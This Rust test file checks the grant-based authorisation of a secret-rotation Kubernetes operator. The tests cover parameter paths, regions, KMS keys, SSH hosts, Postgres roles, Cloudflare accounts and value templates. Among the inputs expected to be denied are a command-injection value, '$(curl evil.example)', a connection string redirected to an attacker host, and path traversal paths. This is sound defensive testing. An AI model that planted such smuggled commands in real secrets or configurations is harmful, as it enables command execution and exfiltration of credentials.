use serde_json::{Value, json};

use super::*;

const STAGING: &str = "/keyturn/prod";

fn grant(spec: Value) -> RotationGrant {
    RotationGrant::new("grant", serde_json::from_value(spec).unwrap())
}

fn secret(path: &str, key: Option<&str>) -> ManagedSecret {
    let mut ssm = json!({"parameters": [{"path": path}]});
    if let Some(key) = key {
        ssm["kmsKeyId"] = key.into();
    }
    secret_at(ssm)
}

fn secret_at(ssm: Value) -> ManagedSecret {
    let object = json!({
        "apiVersion": "keyturn.dev/v1alpha1", "kind": "ManagedSecret",
        "metadata": {"namespace": "shop", "name": "token"},
        "spec": {"ssm": ssm, "generate": {"hex": {"bytes": 32}}, "rotation": {"period": "90d"}},
    });
    serde_json::from_value(object).unwrap()
}

fn host(ssh: Value) -> DockerHost {
    let mut spec = json!({
        "ssh": {"user": "deploy", "keySecretRef": {"name": "key", "key": "id"}, "knownHosts": ["a b c"]},
        "docker": {"composeProject": "shop"}, "deploy": {"script": "true"},
    });
    for (name, value) in ssh.as_object().unwrap() {
        spec["ssh"][name] = value.clone();
    }
    let object = json!({
        "apiVersion": "keyturn.dev/v1alpha1", "kind": "DockerHost",
        "metadata": {"namespace": "shop", "name": "production"}, "spec": spec,
    });
    serde_json::from_value(object).unwrap()
}

fn short(verdict: Verdict) -> &'static str {
    match verdict {
        Verdict::Rotate => "rotate",
        Verdict::Observe(_) => "observe",
        Verdict::Denied(_) => "denied",
    }
}

/// Verdict on a secret in `region`, for an installation in us-east-1.
fn verdict_in(grants: &[RotationGrant], secret: &ManagedSecret, region: &str) -> Verdict {
    let installation = Installation { region: "us-east-1", staging: STAGING };
    managed_secret(&grants.iter().cloned().collect(), secret, region, installation)
}

fn verdict(grants: &[RotationGrant], secret: &ManagedSecret) -> Verdict {
    verdict_in(grants, secret, "us-east-1")
}

fn verdict_on(grants: &[RotationGrant], host: &DockerHost) -> Verdict {
    docker_host(&grants.iter().cloned().collect(), host)
}

#[test]
fn parameters_are_granted_by_whole_segments_region_and_key() {
    let key = "alias/shop";
    let cases = [
        // prefix, regions, keys of the grant; path, key of the secret; verdict
        ("/shop/prod/", vec![], vec![], "/shop/prod/TOKEN", None, "rotate"),
        ("/shop/prod/", vec![], vec![], "/shop/prod/deep/TOKEN", None, "rotate"),
        ("/", vec![], vec![], "/TOKEN", None, "denied"),
        ("/", vec![], vec![], "/shop/prod/TOKEN", None, "denied"),
        ("/shop/prod/", vec![], vec![], "/shop/production/TOKEN", None, "denied"),
        ("/shop/prod/", vec![], vec![], "/shop/prod", None, "denied"),
        ("/shop/prod", vec![], vec![], "/shop/production/TOKEN", None, "denied"),
        ("/shop/prod/", vec![], vec![], "/Shop/prod/TOKEN", None, "denied"),
        ("/shop/prod/", vec![], vec![], "/shop/prod/../staging/TOKEN", None, "denied"),
        ("/shop/prod/", vec![], vec![], "/shop/prod//TOKEN", None, "denied"),
        ("/shop/prod/", vec!["us-east-1"], vec![], "/shop/prod/TOKEN", None, "rotate"),
        ("/shop/prod/", vec!["us-west-2"], vec![], "/shop/prod/TOKEN", None, "denied"),
        ("/shop/prod/", vec!["us-west-2", "us-east-1"], vec![], "/shop/prod/TOKEN", None, "rotate"),
        ("/shop/prod/", vec![], vec![], "/shop/prod/TOKEN", Some(key), "denied"),
        ("/shop/prod/", vec![], vec!["alias/other"], "/shop/prod/TOKEN", Some(key), "denied"),
        ("/shop/prod/", vec![], vec![key], "/shop/prod/TOKEN", Some(key), "rotate"),
        ("/shop/prod/", vec![], vec![key], "/shop/prod/TOKEN", None, "rotate"),
        ("/shop/prod/", vec![], vec![], "/shop/prod/TOKEN", Some("alias/aws/ssm"), "rotate"),
        // keyturn's own records
        ("/shop/prod/", vec![], vec![], "/shop/prod/TOKEN/", None, "denied"),
        ("/shop/prod/", vec![], vec![], "/shop/prod/./TOKEN", None, "denied"),
        ("/shop/prod/", vec![], vec![], "//shop/prod/TOKEN", None, "denied"),
        ("/shop/prod/", vec![], vec![], "shop/prod/TOKEN", None, "denied"),
        ("/keyturn/prod/", vec![], vec![], "/keyturn/prod/shop/token/1", None, "denied"),
        ("/keyturn/", vec![], vec![], "/keyturn/prod", None, "denied"),
        ("/keyturn/", vec![], vec![], "/keyturn/production/TOKEN", None, "rotate"),
    ];
    for (prefix, regions, keys, path, key, expected) in cases {
        let spec = json!({
            "namespaces": ["shop"],
            "parameters": [{"prefix": prefix, "regions": regions, "kmsKeys": keys}],
        });
        let verdict = verdict(&[grant(spec)], &secret(path, key));
        assert_eq!(short(verdict), expected, "{prefix} {regions:?} {keys:?} for {path} {key:?}");
    }
}

#[test]
fn a_grant_is_for_its_namespaces_only_and_nothing_is_granted_without_one() {
    let of = |namespaces: Value| {
        vec![grant(json!({"namespaces": namespaces, "parameters": [{"prefix": "/shop/"}]}))]
    };
    for (grants, expected) in [
        (vec![], "denied"),
        (of(json!(["other"])), "denied"),
        (of(json!(["sho"])), "denied"),
        (of(json!(["other", "shop"])), "rotate"),
    ] {
        let verdict = verdict(&grants, &secret("/shop/TOKEN", None));
        assert_eq!(short(verdict), expected, "{grants:?}");
    }
}

#[test]
fn a_grant_that_is_being_deleted_grants_nothing() {
    let mut going = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/"}]}));
    going.metadata.deletion_timestamp = Some(crate::time::to_kubernetes(chrono::DateTime::UNIX_EPOCH));
    let verdict = verdict(&[going], &secret("/shop/TOKEN", None));
    assert_eq!(short(verdict), "denied");
}

#[test]
fn every_parameter_must_be_granted_by_one_grant_or_another() {
    let both = secret_at(json!({"parameters": [{"path": "/a/ID"}, {"path": "/b/SECRET"}]}));
    let a = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/a/"}]}));
    let b = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/b/"}]}));
    let verdict = |grants: &[RotationGrant]| short(verdict(grants, &both));
    assert_eq!(verdict(std::slice::from_ref(&a)), "denied");
    assert_eq!(verdict(&[a, b]), "rotate");
}

#[test]
fn one_grant_that_observes_stops_what_others_allow() {
    let rotate = || {
        grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/", "kmsKeys": ["alias/k"]}]}))
    };
    let observe = |prefix: &str| {
        grant(json!({"namespaces": ["shop"], "mode": "Observe", "parameters": [{"prefix": prefix}]}))
    };
    let verdict = |grants: &[RotationGrant], key| short(verdict(grants, &secret("/shop/TOKEN", key)));
    assert_eq!(verdict(&[observe("/shop/")], None), "observe");
    assert_eq!(verdict(&[rotate(), observe("/")], None), "observe");
    assert_eq!(verdict(&[observe("/"), rotate()], Some("alias/k")), "observe");
    assert_eq!(verdict(&[rotate(), observe("/other/")], None), "rotate");
    assert_eq!(verdict(&[observe("/shop/")], Some("alias/k")), "denied");
    assert_eq!(verdict(&[observe("/")], None), "denied", "that stops everything, and allows nothing");
    let elsewhere = json!({
        "namespaces": ["shop"], "mode": "Observe", "parameters": [{"prefix": "/", "regions": ["eu-west-1"]}],
    });
    assert_eq!(verdict(&[rotate(), grant(elsewhere)], None), "rotate");
    let Verdict::Observe(why) =
        super::tests::verdict(&[rotate(), observe("/")], &secret("/shop/TOKEN", None))
    else {
        panic!("it is observed")
    };
    assert_eq!(why, "RotationGrant grant has mode: Observe");
}

#[test]
fn hosts_are_granted_by_name_and_port_and_the_jump_host_too() {
    let granted = |hosts: Value| vec![grant(json!({"namespaces": ["shop"], "hosts": hosts}))];
    let plain = json!({"host": "shop.example"});
    let jump = json!({"host": "10.0.0.7", "jump": {"host": "jump.example", "port": 2222, "user": "j"}});
    for (grants, ssh, expected) in [
        (vec![], &plain, "denied"),
        (granted(json!([{"host": "shop.example"}])), &plain, "rotate"),
        (granted(json!([{"host": "Shop.Example", "port": 22}])), &plain, "rotate"),
        (granted(json!([{"host": "shop.example", "port": 2222}])), &plain, "denied"),
        (granted(json!([{"host": "example"}])), &plain, "denied"),
        (granted(json!([{"host": "10.0.0.7"}])), &jump, "denied"),
        (granted(json!([{"host": "jump.example", "port": 2222}])), &jump, "denied"),
        (granted(json!([{"host": "10.0.0.7"}, {"host": "jump.example"}])), &jump, "denied"),
        (granted(json!([{"host": "10.0.0.7"}, {"host": "jump.example", "port": 2222}])), &jump, "rotate"),
    ] {
        assert_eq!(short(verdict_on(&grants, &host(ssh.clone()))), expected, "{grants:?} for {ssh}");
    }
    let stop = grant(json!({"namespaces": ["shop"], "mode": "Observe", "hosts": [{"host": "shop.example"}]}));
    let mut grants = granted(json!([{"host": "shop.example"}]));
    grants.push(stop);
    assert_eq!(short(verdict_on(&grants, &host(plain))), "observe");
}

/// Parses the grant that a denial shows, as an administrator would paste it.
fn pasted(verdict: &Verdict) -> RotationGrant {
    let Verdict::Denied(message) = verdict else { panic!("{verdict:?}") };
    let yaml = &message[message.find("apiVersion:").unwrap()..];
    serde_saphyr::from_str(yaml).unwrap()
}

fn in_germany(grant: &RotationGrant) -> ParameterGrant {
    ParameterGrant { regions: vec!["eu-central-1".to_owned()], ..grant.spec.parameters[0].clone() }
}

#[test]
fn the_yaml_of_a_denial_allows_what_was_denied() {
    let secret = secret_at(json!({
        "kmsKeyId": "alias/shop",
        "parameters": [{"path": "/shop/prod/ID"}, {"path": "/shop/prod/KEY"}, {"path": "/other/KEY"}],
    }));
    let have = grant(
        json!({"namespaces": ["shop"], "parameters": [{"prefix": "/other/", "kmsKeys": ["alias/shop"]}]}),
    );
    let have = RotationGrant {
        spec: RotationGrantSpec { parameters: vec![in_germany(&have)], ..have.spec },
        ..have
    };
    let denied = verdict_in(std::slice::from_ref(&have), &secret, "eu-central-1");
    let lacking = pasted(&denied);
    assert_eq!(lacking.metadata.name.as_deref(), Some("shop-token"));
    let prefixes: Vec<&str> = lacking.spec.parameters.iter().filter_map(|p| p.prefix.as_deref()).collect();
    assert_eq!(prefixes, ["/shop/prod/"], "no more than what is lacking");
    assert_eq!(lacking.spec.parameters[0].regions, ["eu-central-1"]);
    assert_eq!(short(verdict_in(&[have, lacking], &secret, "eu-central-1")), "rotate");

    let host = host(json!({"host": "10.0.0.7", "jump": {"host": "jump.example", "user": "j"}}));
    let lacking = pasted(&verdict_on(&[], &host));
    assert_eq!(short(verdict_on(&[lacking], &host)), "rotate");
}

#[test]
fn a_denial_names_the_namespace_and_the_thing_and_fits_a_condition() {
    let Verdict::Denied(message) = verdict(&[], &secret("/shop/production/TOKEN", None)) else {
        panic!("allowed")
    };
    assert!(
        message.starts_with("No RotationGrant lets namespace shop use /shop/production/TOKEN in us-east-1."),
        "{message}"
    );
    assert!(message.len() < crate::conditions::MAX_MESSAGE);
}

fn role(postgres: Value) -> ManagedSecret {
    let mut secret = secret("/app/DB_PASSWORD", None);
    let mut source = json!({"database": "app"});
    source.as_object_mut().unwrap().extend(postgres.as_object().unwrap().clone());
    secret.spec.generate = serde_json::from_value(json!({"postgres": source})).unwrap();
    secret
}

fn verdict_of(grants: &[Value], secret: &ManagedSecret) -> Verdict {
    let parameters = grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/app/"}]}));
    let servers = grants.iter().map(|servers| grant(json!({"namespaces": ["shop"], "postgres": servers})));
    let all: Vec<RotationGrant> = std::iter::once(parameters).chain(servers).collect();
    verdict(&all, secret)
}

#[test]
fn roles_are_granted_by_server_and_port_each_of_them() {
    let single =
        role(json!({"via": {"dockerHost": "production"}, "port": 5434, "singleRole": {"name": "musehub"}}));
    let pair = role(json!({
        "host": "DB.internal", "adminSecretRef": {"name": "a"}, "alternatingRoles": {
            "names": ["a", "b"], "owner": "app", "bootstrap": {"from": "old", "mode": "Plan"},
        },
    }));
    let of_host = |roles: &[&str]| json!([{"host": "db.internal", "roles": roles}]);
    let via = |port: i32| json!([{"dockerHost": "production", "port": port, "roles": ["musehub"]}]);
    let allowed = Verdict::Rotate;
    assert_eq!(verdict_of(&[via(5434)], &single), allowed);
    assert_ne!(verdict_of(&[via(5432)], &single), allowed, "another port");
    assert_ne!(verdict_of(&[], &single), allowed);
    assert_eq!(verdict_of(&[of_host(&["a", "b"]), of_host(&["app", "old"])], &pair), allowed);
    for lacking in ["a", "b", "app", "old"] {
        let roles: Vec<&str> = ["a", "b", "app", "old"].into_iter().filter(|role| *role != lacking).collect();
        let Verdict::Denied(message) = verdict_of(&[of_host(&roles)], &pair) else {
            panic!("{lacking} is not granted")
        };
        assert!(message.contains(&format!("- {lacking}")), "{message}");
    }
}

#[test]
fn superusers_are_changed_only_where_every_role_may_be_one() {
    let single = role(json!({"host": "db", "singleRole": {"name": "musehub"}}));
    let given = |allow: bool| {
        grant(json!({
            "namespaces": ["shop"], "postgres": [{"host": "db", "roles": ["musehub"], "allowSuperuser": allow}],
        }))
    };
    let source = single.spec.generate.postgres.as_ref().unwrap();
    let allows =
        |grants: &[RotationGrant]| source.allows_superuser(&grants.iter().cloned().collect(), &single);
    assert!(allows(&[given(true)]));
    assert!(!allows(&[given(false)]));
    assert!(!allows(&[]));
}

#[test]
fn the_administrators_parameter_must_be_granted_too() {
    let admin = json!({"path": "/infra/ADMIN", "username": "admin"});
    let secret = role(json!({"host": "db", "adminParameter": admin, "singleRole": {"name": "app"}}));
    let servers = json!([{"host": "db", "roles": ["app"]}]);
    let Verdict::Denied(message) = verdict_of(&[servers], &secret) else { panic!("it is not granted") };
    assert!(message.contains("/infra/ADMIN"), "{message}");
}

#[test]
fn cloudflare_accounts_are_granted_by_their_id() {
    const ACCOUNT: &str = "0123456789abcdef0123456789abcdef";
    let mut secret = secret("/shop/R2", None);
    let source = json!({"cloudflareR2": {
        "accountId": ACCOUNT, "buckets": ["media"], "tokenSecretRef": {"name": "cloudflare", "key": "token"},
    }});
    secret.spec.generate = serde_json::from_value(source).unwrap();
    let paths = json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/"}]});
    let account = |id: &str, mode: &str| json!({"namespaces": ["shop"], "mode": mode, "cloudflare": [{"accountId": id}]});
    let verdict_of = |specs: &[Value], secret: &ManagedSecret| {
        let grants: Vec<RotationGrant> = specs.iter().cloned().map(grant).collect();
        verdict(&grants, secret)
    };
    let verdict = verdict_of(std::slice::from_ref(&paths), &secret);
    let Verdict::Denied(lacking) = &verdict else { panic!("{verdict:?}") };
    assert!(lacking.contains(&format!("the Cloudflare account {ACCOUNT}")), "{lacking}");
    let given = [paths.clone(), serde_json::to_value(pasted(&verdict).spec).unwrap()];
    assert_eq!(verdict_of(&given, &secret), Verdict::Rotate);
    let other = [paths.clone(), account(&"f".repeat(32), "Rotate")];
    assert!(matches!(verdict_of(&other, &secret), Verdict::Denied(_)));
    let watched = [paths, account(ACCOUNT, "Rotate"), account(ACCOUNT, "Observe")];
    assert_eq!(short(verdict_of(&watched, &secret)), "observe");
}

#[test]
fn a_grant_without_regions_is_for_the_installations_own() {
    let everywhere = || grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/"}]}));
    let secret = secret("/shop/TOKEN", None);
    assert_eq!(short(verdict_in(&[everywhere()], &secret, "us-east-1")), "rotate");
    assert_eq!(short(verdict_in(&[everywhere()], &secret, "xx-chosen-7")), "denied");
    let mut stop = everywhere();
    stop.spec.mode = GrantMode::Observe;
    let mut named = everywhere();
    named.spec.parameters[0].regions = vec!["eu-west-1".to_owned()];
    assert_eq!(short(verdict_in(&[named, stop], &secret, "eu-west-1")), "observe", "it stops every region");
}

#[test]
fn the_yaml_of_a_denial_never_grants_the_whole_account() {
    let secret = secret("/TOKEN", None);
    let lacking = pasted(&verdict(&[], &secret));
    assert_eq!(
        (lacking.spec.parameters[0].prefix.as_ref(), lacking.spec.parameters[0].path.as_deref()),
        (None, Some("/TOKEN"))
    );
    assert_eq!(short(verdict(std::slice::from_ref(&lacking), &secret)), "rotate");
    for other in ["/OTHER", "/TOKEN2", "/TOKEN/deeper", "/token"] {
        assert_eq!(
            short(verdict(std::slice::from_ref(&lacking), &self::secret(other, None))),
            "denied",
            "{other}"
        );
    }
}

#[test]
fn text_around_a_value_is_granted_word_for_word() {
    const TEMPLATE: &str = "postgresql://{username}:{password}@db/app";
    let with = |value: &str| secret_at(json!({"parameters": [{"path": "/shop/URL", "value": value}]}));
    let listing = |templates: Value| {
        grant(json!({"namespaces": ["shop"], "parameters": [{"prefix": "/shop/", "templates": templates}]}))
    };
    for (templates, value, expected) in [
        (json!([]), "{value}", "rotate"),
        (json!([]), "{username}{password}", "rotate"),
        (json!([]), "{accessKeyId}", "rotate"),
        (json!([TEMPLATE]), TEMPLATE, "rotate"),
        (json!([]), TEMPLATE, "denied"),
        (json!([TEMPLATE]), "postgresql://{username}:{password}@evil.example/app", "denied"),
        (json!([TEMPLATE]), "postgresql://{username}:{password}@db/app ", "denied"),
        (json!([]), "$(curl evil.example){value}", "denied"),
        (json!([]), "{value} ", "denied"),
        (json!([]), "{user{value}name}", "denied"),
    ] {
        let verdict = verdict(&[listing(templates.clone())], &with(value));
        assert_eq!(short(verdict), expected, "{value} where {templates} is listed");
    }
    let have = listing(json!([]));
    let lacking = pasted(&verdict(std::slice::from_ref(&have), &with(TEMPLATE)));
    assert_eq!(short(verdict(&[have, lacking], &with(TEMPLATE))), "rotate");
}

#[test]
fn probes_are_granted_for_every_role_that_they_are_run_as() {
    let mut secret = role(json!({"host": "db", "singleRole": {"name": "app"}, "probes": ["SELECT 1"]}));
    let given = |probes: bool| json!([{"host": "db", "roles": ["app"], "probes": probes}]);
    assert_eq!(verdict_of(&[given(true)], &secret), Verdict::Rotate);
    let denied = verdict_of(&[given(false)], &secret);
    let Verdict::Denied(message) = &denied else { panic!("{denied:?}") };
    assert!(message.contains("use probes as the roles app"), "{message}");
    let lacking = serde_json::to_value(pasted(&denied).spec.postgres).unwrap();
    assert_eq!(verdict_of(&[given(false), lacking], &secret), Verdict::Rotate);
    secret.spec.generate.postgres.as_mut().unwrap().probes.clear();
    assert_eq!(verdict_of(&[given(false)], &secret), Verdict::Rotate);
}

/// RotationGrant as the API server lists it.
fn listed(spec: Value) -> DynamicObject {
    let object = json!({
        "apiVersion": "keyturn.dev/v1alpha1", "kind": "RotationGrant", "metadata": {"name": "broken"}, "spec": spec,
    });
    serde_json::from_value(object).unwrap()
}

#[test]
fn a_grant_that_cannot_be_read_observes_its_namespaces_or_all_of_them() {
    let rotate = json!({
        "namespaces": ["shop"], "parameters": [{"prefix": "/shop/"}], "hosts": [{"host": "shop.example"}],
    });
    let beside = |spec: Value| Grants::of(vec![listed(rotate.clone()), listed(spec)]);
    let installation = Installation { region: "us-east-1", staging: STAGING };
    let (secret, host) = (secret("/shop/TOKEN", None), host(json!({"host": "shop.example"})));
    for (spec, expected) in [
        (json!({"namespaces": ["shop"], "mode": "Freeze"}), "observe"),
        (json!({"namespaces": ["other"], "mode": "Freeze"}), "rotate"),
        (json!({"namespaces": ["other", 7]}), "observe"),
        (json!({"namespaces": []  , "mode": 7}), "observe"),
        (json!({"namespaces": "other"}), "observe"),
        (json!({"mode": "Observe"}), "observe"),
        (json!("nothing"), "observe"),
        (json!({"namespaces": ["other"]}), "rotate"),
    ] {
        let grants = beside(spec.clone());
        let verdict = managed_secret(&grants, &secret, "us-east-1", installation);
        if let Verdict::Observe(why) = &verdict {
            assert!(why.starts_with("RotationGrant broken cannot be read"), "{why}");
        }
        assert_eq!(short(verdict), expected, "{spec}");
        assert_eq!(short(docker_host(&grants, &host)), expected, "{spec}");
    }
    let mut going = listed(json!({"mode": "Observe"}));
    going.metadata.deletion_timestamp = Some(crate::time::to_kubernetes(chrono::DateTime::UNIX_EPOCH));
    let grants = Grants::of(vec![listed(rotate.clone()), going]);
    assert_eq!(managed_secret(&grants, &secret, "us-east-1", installation), Verdict::Rotate);
    let alone = Grants::of(vec![listed(
        json!({"namespaces": ["shop"], "mode": 7, "parameters": [{"prefix": "/shop/"}]}),
    )]);
    assert_eq!(
        short(managed_secret(&alone, &secret, "us-east-1", installation)),
        "denied",
        "it grants nothing"
    );
}
